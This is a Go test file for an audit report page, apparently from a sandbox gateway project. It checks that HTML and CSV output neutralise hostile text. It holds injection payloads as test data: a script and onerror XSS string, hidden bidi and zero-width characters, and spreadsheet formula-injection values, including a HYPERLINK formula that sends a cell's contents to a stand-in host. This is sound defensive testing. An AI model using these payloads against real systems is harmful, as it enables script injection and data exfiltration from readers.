package auditpage

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"golang.org/x/net/html"

	"boxgate/audit/report"
)

var noon = time.Date(2026, 11, 1, 12, 0, 0, 0, time.UTC)

// hostile is a text that a box or a person might choose to harm a reader of the report.
const hostile = "</style><script>alert(1)</script><img src=x onerror=alert(2)>\u202egnp.exe\u200b\x1b[2J&quot;\"'"

// sample returns a report with a text in every place where a text of a box, a person or a caller can be.
func sample(s string) report.Report {
	who := report.Who{Key: s, KeyID: "key_1", Role: "admin", Remote: s}
	change := report.Change{Seq: 7, Time: noon, By: who, Call: "PUT /v2/box/{id}", Version: 3, What: []string{s, "policy allowed_domains: added " + s}, Note: s}
	flow := report.Flow{Host: s, Port: 443, Protocol: "tcp", Action: "splice", Reason: "allowed_domain", Rule: s, Version: 3, Via: s, Count: 1234567, BytesOut: 987654321, Headers: []string{s}, Secrets: []string{s}, First: noon, Last: noon.Add(time.Hour)}
	lookup := flow
	lookup.Lookup, lookup.BytesOut, lookup.Failure = true, 0, true
	text, _ := json.Marshal(map[string]any{"mode": "custom", "allowed_domains": []string{s}})
	return report.Report{
		Schema: report.Schema, GeneratedAt: noon, Gateway: "1.2.3", Since: noon.AddDate(0, 0, -1), Until: noon, Box: s,
		Decisions: report.Coverage{Read: 12, Complete: true}, Trail: report.Integrity{Entries: 3, Head: "abc", Problems: []string{s}}, Notes: []string{s},
		Boxes: []report.Box{
			{
				ID: "b1", Name: s, Allowed: 1, BytesOut: 987654321, Egress: []report.Flow{flow, lookup}, Refused: []report.Flow{lookup}, Visits: []report.Flow{flow},
				Secrets:   []report.Use{{Secret: s, Host: s, Port: 443, Headers: []string{s}, Login: s, Rule: s, Count: 1, First: noon, Last: noon}},
				Policies:  []report.Version{{Version: 3, Decisions: 2, Change: &change, Text: &report.Text{RawMessage: text}}, {Version: 4}},
				Approvals: []report.Approval{{Seq: 9, Time: noon, By: who, Entry: s, Asked: s, Answer: "once", Reason: s, Version: 3}},
				Changes:   []report.Change{change, {Seq: 8, Time: noon, Status: 403}}, Calls: []report.Call{{By: who, Call: s, Status: 403, Count: 2, First: noon, Last: noon}},
			},
			{ID: "b2", Exists: true},
		},
		Changes: []report.Change{change}, Calls: []report.Call{{Call: s, Count: 1, First: noon, Last: noon}},
	}
}

func render(t testing.TB, r report.Report) string {
	t.Helper()
	var out bytes.Buffer
	if err := WriteHTML(&out, r); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

// shape returns the elements of a page with the names of their attributes, and checks that nothing in it loads or runs.
func shape(t *testing.T, page string) string {
	t.Helper()
	var b strings.Builder
	tokens := html.NewTokenizer(strings.NewReader(page))
	for tokens.Next() != html.ErrorToken {
		token := tokens.Token()
		if token.Type != html.StartTagToken && token.Type != html.SelfClosingTagToken {
			continue
		}
		b.WriteString("<" + token.Data)
		for _, a := range token.Attr {
			b.WriteString(" " + a.Key)
			if strings.HasPrefix(a.Key, "on") || a.Key == "src" || a.Key == "style" || a.Key == "href" && !strings.HasPrefix(a.Val, "#b") {
				t.Errorf("<%s %s=%q>", token.Data, a.Key, a.Val)
			}
		}
		switch token.Data {
		case "script", "img", "link", "iframe", "object", "embed", "base", "form", "svg", "math":
			t.Errorf("the page has <%s>", token.Data)
		}
	}
	return b.String()
}

// TestTextsCannotChangeThePage: whatever a text is, the page has the same elements, none of which loads or runs anything, and characters
// that could hide or reorder text are visible.
func TestTextsCannotChangeThePage(t *testing.T) {
	t.Parallel()
	page := render(t, sample(hostile))
	if a, b := shape(t, page), shape(t, render(t, sample("plain"))); a != b {
		t.Errorf("%s\nand with a plain text\n%s", a, b)
	}
	for _, bad := range []string{"\u202e", "\u200b", "\x1b", "<script"} {
		if strings.Contains(page, bad) {
			t.Errorf("the page has %q", bad)
		}
	}
	if !strings.Contains(page, `\u{202e}gnp.exe\u{200b}\u{1b}[2J`) {
		t.Error("hidden characters are not shown")
	}
}

// TestThePageForbidsWhatItDoesNotHave: its policy allows its own style sheet, by its hash, and nothing else.
func TestThePageForbidsWhatItDoesNotHave(t *testing.T) {
	t.Parallel()
	page := render(t, sample("plain"))
	_, rest, _ := strings.Cut(page, "<style>")
	css, _, ok := strings.Cut(rest, "</style>")
	sum := sha256.Sum256([]byte(css))
	want := "default-src 'none'; style-src 'sha256-" + base64.StdEncoding.EncodeToString(sum[:]) + "'; base-uri 'none'; form-action 'none'"
	if !ok || !strings.Contains(html.UnescapeString(page), `http-equiv="Content-Security-Policy" content="`+want+`"`) {
		t.Errorf("%.600s", page)
	}
	if strings.Contains(css, "url(") || strings.Contains(css, "@import") {
		t.Error("the style sheet loads something")
	}
}

// TestThePageShowsTheReport: the words that an auditor reads.
func TestThePageShowsTheReport(t *testing.T) {
	t.Parallel()
	page := html.UnescapeString(render(t, sample("plain")))
	for _, want := range []string{
		"987.7 MB", "1,234,567", "plain:443", "passed unread", "allowed domain", "looked up only", "2026-11-01 12:00:00 – 13:00:00", "plain (admin), plain", "refused with 403",
		"The audit trail no longer has the entry that made it.", "The audit trail is not as it was written.", `"allowed_domains": [`, "the policy in full", "entry 7", "no answer was recorded",
	} {
		if !strings.Contains(page, want) {
			t.Errorf("the page lacks %q", want)
		}
	}
	many := sample("plain")
	for i := range 2 * maxShown {
		many.Boxes[0].Egress = append(many.Boxes[0].Egress, report.Flow{Host: fmt.Sprintf("h%d.example.com", i), First: noon, Last: noon})
	}
	if page := render(t, many); strings.Count(page, ".example.com") > maxShown || !strings.Contains(page, "and 252 more") {
		t.Error("the rows of a table are not bounded")
	}
}

// TestNoCellIsAFormula: a cell that a spreadsheet would evaluate begins with an apostrophe, and every line has every column.
func TestNoCellIsAFormula(t *testing.T) {
	t.Parallel()
	for _, s := range []string{`=HYPERLINK("http://x/?"&A1,"a")`, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "|cmd", "%00", "\uff1d1", hostile, "a,b\n\"c\"", "why; =HYPERLINK(1)", `a;"=1`, "a;;@x"} {
		var out bytes.Buffer
		if err := WriteCSV(&out, sample(s)); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&out).ReadAll()
		if err != nil || len(rows) < 15 {
			t.Fatalf("%d rows: %v", len(rows), err)
		}
		for _, row := range rows {
			for i, c := range row {
				if r, _ := utf8.DecodeRuneInString(c); c != "" && strings.ContainsRune("=+-@|%\t\r\n＝＋－＠", r) || len(row) != len(columns) {
					t.Errorf("%q: column %s is %q", s, columns[i], c)
				}
				for _, part := range strings.Split(c, ";") { // the separator in many languages
					if r, _ := utf8.DecodeRuneInString(strings.TrimLeft(part, ` "`)); strings.ContainsRune("=+-@|%＝＋－＠", r) {
						t.Errorf("%q: column %s is %q, which some spreadsheets split", s, columns[i], c)
					}
				}
			}
		}
	}
}

// FuzzText: what text returns has no character that hides or reorders others, and is the text itself if that has none.
func FuzzText(f *testing.F) {
	f.Add("plain")
	f.Add(hostile)
	f.Add("größe 日本語 \u2066x\u2069 \xff \ufe0f")
	f.Fuzz(func(t *testing.T, s string) {
		got := text(s)
		if strings.ContainsFunc(got, hides) || !utf8.ValidString(got) {
			t.Errorf("%q becomes %q", s, got)
		}
		if !strings.ContainsFunc(s, hides) && got != s {
			t.Errorf("%q becomes %q", s, got)
		}
	})
}
